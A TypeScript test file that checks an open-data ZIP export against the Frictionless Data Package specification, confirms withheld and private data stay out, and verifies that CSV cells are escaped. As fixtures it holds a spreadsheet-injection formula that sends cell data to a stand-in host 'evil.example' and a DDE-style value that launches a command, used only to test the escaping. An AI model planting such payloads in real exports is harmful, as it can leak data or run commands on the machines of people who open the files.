// The open-data ZIP as outside tools read it, on each database, on the demo: a Frictionless Data
// Package whose descriptor is checked against the specification (required keys, licence, field
// types, keys) and whose CSV files, read by csv-parse, match it cell by cell; the datasets the
// issue map asked for; nothing that is not public; and no cell a spreadsheet would run (OWASP).
import { createHash } from 'node:crypto'
import { strFromU8, unzipSync } from 'fflate'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { signUp, TestClient } from '../../../test/support/client.ts'
import { csvRows, fileNameOf, formulaCells } from '../../../test/support/downloads.ts'
import { createTestRuntime, DATABASE_KINDS, type TestRuntime } from '../../../test/support/runtime.ts'
import { SYSTEM } from '../../core/auth/actor.ts'
import { loadDemo } from '../../demo.ts'
import { createOrganization } from '../actors/index.ts'
import { callsOf, guidingQuestions, listProcesses, openCall } from '../processes/index.ts'

const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
const TYPES = [
  'string',
  'number',
  'integer',
  'boolean',
  'object',
  'array',
  'date',
  'time',
  'datetime',
  'year',
  'yearmonth',
  'duration',
  'geopoint',
  'geojson',
  'list',
  'any',
]

/** Does a CSV cell hold a value of the Table Schema type (default formats)? */
function ofType(type: string, cell: string): boolean {
  switch (type) {
    case 'integer':
      return /^-?\d+$/.test(cell)
    case 'number':
      return /^-?\d+(\.\d+)?([eE][-+]?\d+)?$/.test(cell)
    case 'boolean':
      return ['true', 'false'].includes(cell)
    case 'date':
      return /^\d{4}-\d{2}-\d{2}$/.test(cell) && !Number.isNaN(Date.parse(cell))
    case 'datetime':
      return /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?(Z|[+-]\d{2}:\d{2})$/.test(cell)
    case 'object':
      return (() => {
        const v = JSON.parse(cell)
        return typeof v === 'object' && v !== null && !Array.isArray(v)
      })()
    case 'array':
      return Array.isArray(JSON.parse(cell))
    default:
      return true
  }
}

interface Resource {
  name: string
  path: string
  type: string
  format: string
  mediatype: string
  encoding: string
  bytes: number
  hash: string
  schema: {
    fields: { name: string; type: string; description: string }[]
    primaryKey?: string[]
    foreignKeys?: { fields: string[]; reference: { resource: string; fields: string[] } }[]
  }
}

describe.each(DATABASE_KINDS)('open data on %s', (kind) => {
  let runtime: TestRuntime
  let files: Record<string, string>
  let emails: string[]

  beforeAll(async () => {
    runtime = await createTestRuntime(kind)
    await loadDemo(runtime)
    const db = runtime.deps.db
    const organization = await createOrganization(
      db,
      { actor: SYSTEM, now: new Date() },
      {
        name: { en: FORMULA },
        stakeholderGroup: 'civil_society',
      },
    )
    if (!organization.ok) throw new Error(JSON.stringify(organization.error))
    // this year's standing item has an open call; a second call on it is moderated
    const standing = (await listProcesses(db)).find((p) => p.slug.startsWith('cstd-enhanced-cooperation-'))
    if (!standing) throw new Error('demo process missing')
    const [call] = await callsOf(db, standing.id)
    const questions = (await guidingQuestions(db, standing.id)).map((q) => q.id)
    const reviewed = await openCall(db, { actor: SYSTEM, now: new Date() }, standing.id, {
      title: 'Moderated call',
      opensAt: new Date(Date.now() - 86_400_000),
      closesAt: new Date(Date.now() + 30 * 86_400_000),
      eligibility: 'everyone',
      languages: ['en'],
      moderation: 'after_review',
      questionIds: questions,
    })
    if (!reviewed.ok) throw new Error('call')
    const contribute = async (client: TestClient, callId: number, text: string) => {
      await client.get(`/calls/${callId}/contribute`)
      const form = new FormData()
      form.set('_csrf', client.lastCsrf)
      form.set('speaker', 'self')
      form.set('language', 'en')
      form.set(`answers.${questions[0]}`, text)
      const response = await client.request(`/calls/${callId}/contribute`, {
        method: 'POST',
        body: form,
        headers: { origin: 'http://localhost' },
      })
      expect(response.status).toBe(303)
      return response.headers.get('location') as string
    }
    const { client: formulaName } = await signUp(runtime, '@SUM(1+1)*cmd|/C calc!A0')
    await contribute(formulaName, call?.id as number, '-2+3 is how the answer starts; PUBLISHED-ANSWER-7f3a')
    const { client: changedMind } = await signUp(runtime, 'Changed Mind')
    const path = await contribute(changedMind, call?.id as number, 'WITHDRAWN-TEXT-91bc')
    await changedMind.submit(`${path}/withdraw`, { note: 'Superseded by our joint text.' }, path)
    const { client: pending } = await signUp(runtime, 'Awaiting Review')
    await contribute(pending, reviewed.value.id, 'PENDING-TEXT-c04d')

    const response = await new TestClient(runtime).request('/open-data.zip')
    expect(response.status).toBe(200)
    expect(fileNameOf(response.headers.get('content-disposition')).fileName).toMatch(
      /^ecp-open-data-\d{4}-\d{2}-\d{2}\.zip$/,
    )
    const zip = unzipSync(new Uint8Array(await response.arrayBuffer()))
    files = Object.fromEntries(Object.entries(zip).map(([name, bytes]) => [name, strFromU8(bytes)]))
    emails = (await db.selectFrom('authAccount').select('email').execute()).map((a) => a.email)
  }, 120_000)
  afterAll(() => runtime.close())

  const descriptor = () => JSON.parse(files['datapackage.json'] as string)

  it('describes the package as the Data Package specification requires, under CC BY 4.0', () => {
    const dp = descriptor()
    expect(dp.$schema).toBe('https://datapackage.org/profiles/2.0/datapackage.json')
    expect(dp.name).toMatch(/^[a-z0-9._-]+$/)
    expect(Number.isNaN(Date.parse(dp.created))).toBe(false)
    expect(dp.licenses).toEqual([
      expect.objectContaining({ name: 'CC-BY-4.0', path: 'https://creativecommons.org/licenses/by/4.0/' }),
    ])
    expect(Array.isArray(dp.resources)).toBe(true)
    expect(dp.resources.length).toBeGreaterThan(0)
    const names = dp.resources.map((r: Resource) => r.name)
    expect(new Set(names).size).toBe(names.length)
    for (const r of dp.resources as Resource[]) {
      expect(r.name).toMatch(/^[a-z0-9._-]+$/)
      expect(r).toMatchObject({ type: 'table', format: 'csv', mediatype: 'text/csv', encoding: 'utf-8' })
      const bytes = new TextEncoder().encode(files[r.path] as string)
      expect(files[r.path], r.path).toBeDefined()
      expect(r.bytes).toBe(bytes.byteLength)
      expect(r.hash).toBe(`sha256:${createHash('sha256').update(bytes).digest('hex')}`)
      expect(r.schema.fields.length).toBeGreaterThan(0)
      const fieldNames = r.schema.fields.map((f) => f.name)
      expect(new Set(fieldNames).size, r.name).toBe(fieldNames.length)
      for (const f of r.schema.fields) {
        expect(TYPES, `${r.name}.${f.name}`).toContain(f.type)
        expect(f.description.length).toBeGreaterThan(0)
      }
      for (const key of r.schema.primaryKey ?? []) expect(fieldNames).toContain(key)
      for (const fk of r.schema.foreignKeys ?? []) {
        const target = dp.resources.find((x: Resource) => x.name === fk.reference.resource) as Resource
        expect(target, `${r.name} -> ${fk.reference.resource}`).toBeDefined()
        expect(fk.fields.length).toBe(fk.reference.fields.length)
        for (const f of fk.fields) expect(fieldNames).toContain(f)
        for (const f of fk.reference.fields) expect(target.schema.fields.map((x) => x.name)).toContain(f)
      }
    }
  })

  it('gives each CSV the header its schema names and values of the declared types, keys kept', () => {
    const dp = descriptor()
    const tables = new Map<string, Record<string, string>[]>()
    for (const r of dp.resources as Resource[]) {
      const text = files[r.path] as string
      const header = text.slice(0, text.indexOf('\n')).split(',')
      expect(header, r.name).toEqual(r.schema.fields.map((f) => f.name))
      const rows = csvRows(text)
      tables.set(r.name, rows)
      const json = JSON.parse(files[`${r.name}.json`] as string)
      expect(json.length, `${r.name}.json`).toBe(rows.length)
      for (const [i, row] of rows.entries()) {
        for (const f of r.schema.fields) {
          const cell = row[f.name] as string
          if (cell === '') continue
          expect(ofType(f.type, cell), `${r.name} row ${i + 1} ${f.name} (${f.type}): ${cell.slice(0, 60)}`).toBe(true)
        }
      }
      if (r.schema.primaryKey) {
        const key = r.schema.primaryKey
        const keys = rows.map((row) => JSON.stringify(key.map((k) => row[k])))
        expect(new Set(keys).size, `${r.name} primary key`).toBe(keys.length)
        for (const row of rows)
          expect(
            key.every((k) => row[k] !== ''),
            `${r.name} primary key`,
          ).toBe(true)
      }
    }
    for (const r of dp.resources as Resource[]) {
      for (const fk of r.schema.foreignKeys ?? []) {
        const target = new Set(
          (tables.get(fk.reference.resource) ?? []).map((row) => fk.reference.fields.map((f) => row[f]).join('\u0000')),
        )
        for (const row of tables.get(r.name) ?? []) {
          if (fk.fields.some((f) => row[f] === '')) continue
          const value = fk.fields.map((f) => row[f]).join('\u0000')
          expect(target.has(value), `${r.name}.${fk.fields} = ${value} -> ${fk.reference.resource}`).toBe(true)
        }
      }
    }
  })

  it('has Member States, organizations, meetings, proposals, the negotiation record and the contributions’ texts', () => {
    const resources = descriptor().resources.map((r: Resource) => r.name)
    for (const name of [
      'member_states',
      'organizations',
      'meetings',
      'calls',
      'proposals',
      'negotiating_documents',
      'negotiation_paragraphs',
      'negotiation_amendments',
      'negotiation_positions',
      'negotiation_statements',
      'negotiation_revisions',
      'contributions',
      'contribution_answers',
      'issues',
    ])
      expect(resources).toContain(name)
    const states = csvRows(files['member_states.csv'] as string)
    expect(states.filter((s) => s.membership === 'member')).toHaveLength(193)
    expect(states.find((s) => s.iso3 === 'BRA')).toMatchObject({ name_en: 'Brazil', name_fr: 'Brésil' })
    expect(csvRows(files['meetings.csv'] as string).length).toBeGreaterThanOrEqual(5)
    expect(csvRows(files['negotiation_paragraphs.csv'] as string).length).toBeGreaterThan(0)
    expect(csvRows(files['negotiation_revisions.csv'] as string).length).toBeGreaterThan(0)
    // the dictionary says what the files hold: the issues' names in six languages, in the CSV too
    const issues = csvRows(files['issues.csv'] as string)
    for (const l of ['ar', 'zh', 'en', 'fr', 'ru', 'es']) expect(issues[0]?.[`name_${l}`], l).not.toBe('')
    const dictionary = csvRows(files['dictionary.csv'] as string)
    expect(dictionary.filter((d) => d.dataset === 'issues').map((d) => d.field)).toContain('name_ar')
    expect(files['dictionary.csv']).not.toContain('six languages)')
    expect(dictionary.every((d) => d.type !== '')).toBe(true)
  })

  it('publishes nothing held for review, no withdrawn text beyond its note, no email', () => {
    const all = Object.values(files).join('\n')
    expect(all).toContain('PUBLISHED-ANSWER-7f3a')
    expect(all).not.toContain('WITHDRAWN-TEXT-91bc')
    expect(all).not.toContain('PENDING-TEXT-c04d')
    expect(all).toContain('Superseded by our joint text.')
    expect(all).not.toContain('Awaiting Review')
    for (const email of emails) expect(all, email).not.toContain(email)
    expect(all).not.toMatch(/password|argon2|token_hash/i)
  })

  it('neutralizes every cell a spreadsheet would run as a formula, and keeps the JSON as written', () => {
    for (const [name, text] of Object.entries(files).filter(([n]) => n.endsWith('.csv')))
      expect(formulaCells(csvRows(text)), name).toEqual([])
    const organization = csvRows(files['organizations.csv'] as string).find((o) => o.name_en?.includes('HYPERLINK'))
    expect(organization?.name_en).toBe(`'${FORMULA}`)
    const contributor = csvRows(files['contributions.csv'] as string).find((c) => c.contributor?.includes('SUM'))
    expect(contributor?.contributor).toBe("'@SUM(1+1)*cmd|/C calc!A0")
    const answer = csvRows(files['contribution_answers.csv'] as string).find((a) => a.text?.includes('7f3a'))
    expect(answer?.text?.startsWith("'-2+3")).toBe(true)
    const json = JSON.parse(files['organizations.json'] as string)
    expect(json.some((o: { name_en: string }) => o.name_en === FORMULA)).toBe(true)
  })

  it('writes the map’s CSV downloads through the same writer: parsed cleanly, nothing a spreadsheet would run', async () => {
    for (const path of ['/map/gaps.csv', '/map/overlaps.csv?n=2']) {
      const response = await new TestClient(runtime).request(path)
      expect(response.headers.get('content-type')).toContain('text/csv')
      expect(fileNameOf(response.headers.get('content-disposition')).fileName).toMatch(/^(gaps|overlaps)\.csv$/)
      const rows = csvRows(await response.text())
      expect(rows.length).toBeGreaterThan(0)
      expect(formulaCells(rows)).toEqual([])
    }
  })
})
